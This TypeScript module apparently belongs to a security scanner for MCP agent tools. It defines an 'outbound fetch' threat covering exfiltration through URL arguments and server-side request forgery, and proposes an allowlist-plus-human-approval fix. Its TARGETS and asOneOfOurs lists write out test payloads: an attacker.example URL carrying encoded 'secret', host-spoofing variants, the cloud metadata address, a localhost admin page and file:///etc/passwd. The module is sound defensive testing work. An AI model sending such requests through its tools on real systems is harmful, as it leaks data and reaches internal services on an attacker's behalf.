import { takesAddress } from '../arguments.js';
import type { ToolDefinition } from '../tool-definition.js';
import { READ_PAGE } from './examples.js';
import { argumentsWith, type Place, textPlaces } from './places.js';
import { cve, safeMcpRow } from './sources.js';
import type { Disguise, Threat } from './threat.js';
import { attack, entry, has, perTool, when } from './tools-of.js';

export const OUTBOUND_FETCH: Threat = {
  id: 'outbound-fetch',
  title: 'Outbound fetch, and fetch from the inside',
  how: 'A tool goes to any address. With one of an attacker, what was read leaves in the address itself; with one of the inside (the metadata of a cloud machine, a router, a service without a password) the tool reads for the attacker what only the machine can reach.',
  sources: [
    safeMcpRow('SAFE-T1913', 'HTTP POST Exfil'),
    safeMcpRow('SAFE-T1901', 'Outbound Webhook C2'),
    cve('CVE-2026-26118', 'server-side request forgery in an MCP server'),
  ],
  opens: 'a tool that goes to an address which stands in an argument',
  sight: 'calls',
  rule: 'A list of hosts, anchored at both ends of the host, over https alone. Where a call may leave the address out, one that names it is looked at by a person.',
  leaves: 'A host of the list that redirects elsewhere, and a name of the list that resolves to the inside.',
  example: [{ server: 'web', tools: [READ_PAGE] }],
  openings: (servers) =>
    perTool(servers, (at) => {
      const places = addressPlaces(at.tool);
      if (places.length === 0 || !(has(at, 'sends') || has(at, 'untrusted'))) return undefined;
      const names = places.map(({ path }) => path.slice('args.'.length));
      const required = places.filter(({ isRequired }) => isRequired);
      const optional = places.filter(({ isRequired }) => !isRequired);
      return {
        why:
          names.length === 1
            ? `argument "${names[0]}" is any address`
            : `arguments "${names.join('", "')}" are any addresses`,
        attacks: places.flatMap((place) =>
          TARGETS.map(([name, url, disguise]) =>
            attack(`${names.length > 1 ? `${place.path.slice('args.'.length)}: ` : ''}${name}`, {
              ...at,
              args: argumentsWith(at.tool.inputSchema, place, url),
              disguises: { [place.key]: disguise },
            }),
          ),
        ),
        fix: entry(at, {
          ...(required.length > 0 && {
            require: required.map(({ path }) =>
              when(path, 'regex', '^https://docs[.]example[.]com(/|$)', 'Only to hosts of our list.'),
            ),
          }),
          ...(optional.length > 0 && {
            approve_if: optional.map(({ path }) =>
              when(path, 'exists', true, 'An address is named, so a person looks at it.'),
            ),
          }),
        }),
      };
    }),
};

/** The places in which a tool takes an address that it goes to; one inside of an object is a link among data. */
export const addressPlaces = ({ inputSchema }: ToolDefinition): Place[] =>
  textPlaces(inputSchema).filter(
    ({ names, schema }) => names.length === 1 && takesAddress(names[0] ?? '', schema),
  );

/** Only names of the policy's own list are addresses of its own; what stands before an @, or is a part of a name, is not. */
export const asOneOfOurs: Disguise = (own) => {
  const host = own.replace(/[/]+$/, '');
  return [
    `${host}.attacker.example/?d=c2VjcmV0`,
    `${host}@attacker.example/`,
    `https://attacker.example/?d=c2VjcmV0&to=${own}`,
    `https://attacker.example/${own}`,
  ];
};

export const TO_STRANGER = 'https://attacker.example/?d=c2VjcmV0';

const TARGETS: readonly (readonly [name: string, url: string, disguise: Disguise])[] = [
  ['to a stranger', TO_STRANGER, asOneOfOurs],
  ['to a name that begins like one of ours', 'https://docs.example.com@attacker.example/', asOneOfOurs],
  ['to the metadata of a cloud machine', 'http://169.254.169.254/latest/meta-data/', () => []],
  ['to a service on this machine', 'http://localhost:8080/admin', () => []],
  ['to a file', 'file:///etc/passwd', () => []],
];
